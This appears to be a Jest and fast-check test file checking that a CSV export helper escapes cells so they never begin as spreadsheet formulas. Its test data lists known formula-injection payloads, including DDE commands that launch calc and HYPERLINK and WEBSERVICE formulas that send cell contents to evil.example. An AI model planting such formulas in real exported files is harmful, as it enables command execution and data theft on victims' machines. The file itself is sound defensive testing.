import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvLines, textCell } from '../../src/receipts/room.ts';
import { readCsv } from './csv.ts';

/** What has been used to run formulas, commands and requests out of exported tables. */
const attacks = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A1)', '+cmd|\' /C notepad\'!A1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=DDE("cmd";"/C calc";"x")',
  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '   +1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u202e=1+1', '\u0000=1', '＝1+1', '＋1', '－1', '＠SUM(1)',
  '=', '-', '+', '@', '\t', '\r',
];

describe('a text of a fan', () => {
  test.each(attacks.map((attack) => [attack]))('%j begins no formula', (attack) => {
    expect(textCell(attack)).toBe(`'${attack}`);
  });

  test.each(['Ada', '', '1+1', 'a=b', 'me@example.com', '"quoted"', 'O\'Neill', '日本語', '🎉', 'a,b;c\td', '50 % off = nice'])('%j stays as it is', (text) => {
    expect(textCell(text)).toBe(text);
  });

  test('of any kind ends where it ends, and never begins as a formula does', () => {
    const fragment = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...attacks), fc.constantFrom('"', '","', '\r\n', ';', '\t', ',"=1'));
    fc.assert(fc.property(fc.array(fc.array(fragment, { minLength: 2, maxLength: 4 }).map((parts) => parts.join('')), { minLength: 1, maxLength: 5 }), (texts) => {
      const [row] = readCsv(csvLines([texts.map(textCell)]));
      expect(row!.map((cell) => cell.replace(/^'/, ''))).toEqual(texts.map((text) => (text.startsWith('\'') ? text.slice(1) : text)));
      for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }), { numRuns: 2_000 });
  });
});
